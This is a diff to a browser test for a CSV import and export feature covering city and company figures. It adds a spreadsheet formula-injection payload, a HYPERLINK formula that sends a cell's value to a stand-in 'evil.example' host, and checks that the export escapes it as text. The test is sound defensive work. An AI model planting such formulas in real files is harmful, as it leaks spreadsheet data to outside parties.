@@ -1,3 +1,4 @@
+import Papa from 'papaparse';
 import { execFileSync, spawnSync } from 'node:child_process';
 import { createHash } from 'node:crypto';
 import {
@@ -40,6 +41,9 @@ const RANK_EXCERPT = 'The city built 1.5 million vehicles, ranking second among 
 const SALES_EXCERPT =
   'Its largest maker, Test Motors, sold 800,000 vehicles in 2025, a record for the company.';
 
+// Text from outside that a spreadsheet would run as a formula (CSV formula injection).
+const HOSTILE_NOTE = '=HYPERLINK("http://evil.example/?"&A1,"Click")';
+
 const ENTITIES_CSV = `id,type,name.en,name.zh
 testville,city,Testville,测试市
 testmotors,company,Test Motors,测试汽车
@@ -53,7 +57,7 @@ const HEADER =
 const FIGURES_CSV = `\uFEFF${[
   HEADER,
   `,testville,production_rank,2025,2,rank,rank,,cities,,,test-2026-testville,ranking second among cities,"${RANK_EXCERPT}",,,,`,
-  `,testmotors,vehicle_sales,2025,800000,vehicles,actual,,,,,test-2026-testville,"800,000","${SALES_EXCERPT}",,,,`,
+  `,testmotors,vehicle_sales,2025,800000,vehicles,actual,,,,-3.2,test-2026-testville,"800,000","${SALES_EXCERPT}","${HOSTILE_NOTE.replaceAll('"', '""')}","${HOSTILE_NOTE.replaceAll('"', '""')}",,`,
 ].join('\r\n')}\r\n`;
 // One good row and one with a value no one can read: nothing may be written.
 const BAD_CSV = [
@@ -231,6 +235,13 @@ describeBrowser('a maintainer adds a new city and company (issue 14)', () => {
         const csv = await download(page, c.panel, WORDS[lang].csv);
         expect(csv).toContain(c.id);
         expect(csv).toContain(name);
+        if (c.panel === 'companies' && lang === 'en') {
+          // The imported note reaches the export as text, never as a formula; the negative
+          // growth rate stays a number.
+          const row = Papa.parse<string[]>(csv.slice(1)).data.find((r) => r[0] === c.id) ?? [];
+          expect(row[14]).toBe(`'${HOSTILE_NOTE}`);
+          expect(row[8]).toBe('-3.2');
+        }
         expect(errors).toEqual([]);
         await page.context().close();
       });
